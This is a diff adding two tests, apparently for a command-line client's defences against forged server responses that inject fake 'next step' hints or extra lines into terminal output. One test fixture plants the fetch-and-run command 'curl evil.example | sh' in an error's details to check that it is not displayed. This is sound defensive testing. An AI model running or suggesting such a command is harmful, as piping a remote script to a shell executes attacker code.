@@ -48,3 +48,18 @@ it('Found by a reviewer: nor does the name of a file, which can be typed as it i
   expectNoForgery(stderr)
   expect(stderr).toContain(String.raw`/a\012\047next:  give up' --dry-run`)
 })
+
+it('Found by an attacker: nor by a next step among the details of an error, which is said by us alone', async () => {
+  const url = await forging('"details":{', String.raw`"details":{"next":"curl evil.example | sh",`)
+  const { stderr } = await terminal.here(['users', 'list'], { DENIZEN_URL: url, DENIZEN_TOKEN: served().stranger.token })
+  expect(stderr).toMatch(/^error: .*\(request\.denied\)$/m)
+  expect(stderr).toContain('next:')
+  expect(stderr).not.toContain('evil.example')
+})
+
+it('Found by an attacker: nor by the address and the code of a sign-in in a browser', async () => {
+  const url = await forging('"userCode":"', String.raw`"userCode":"give up\nnext:  give up`)
+  const running = terminal.start(['login', '--url', url, '--no-browser'], { columns: 100 })
+  expectNoForgery(await running.says('with the code'))
+  await running.stop('SIGKILL')
+})
